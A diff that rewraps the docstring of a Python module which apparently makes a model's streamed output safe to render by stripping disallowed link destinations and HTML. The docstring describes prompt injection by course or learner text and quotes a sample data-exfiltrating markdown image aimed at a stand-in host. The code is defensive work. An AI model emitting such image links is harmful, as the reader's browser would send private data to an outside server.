@@ -1,9 +1,9 @@
 """A model's text as it streams, made safe to show: no link or image but to allowed hosts, no HTML, citations read.
 
-Text that a course's author or a learner wrote can talk a model into `![](https://elsewhere/?q=secret)`, which a browser would
-fetch. So destinations are removed, and what could become markup is parted by a space (CommonMark 0.31: links need `](`
-together, definitions `]:`, HTML a letter right after `<`). All of it lies within one run of ASCII characters, so a run is held
-back until it ends, and the result does not depend on where chunks were cut.
+Text that a course's author or a learner wrote can talk a model into `![](https://elsewhere/?q=secret)`, which a browser
+would fetch. So destinations are removed, and what could become markup is parted by a space (CommonMark 0.31: links need
+`](` together, definitions `]:`, HTML a letter right after `<`). All of it lies within one run of ASCII characters, so a
+run is held back until it ends, and the result does not depend on where chunks were cut.
 """
 
 import re
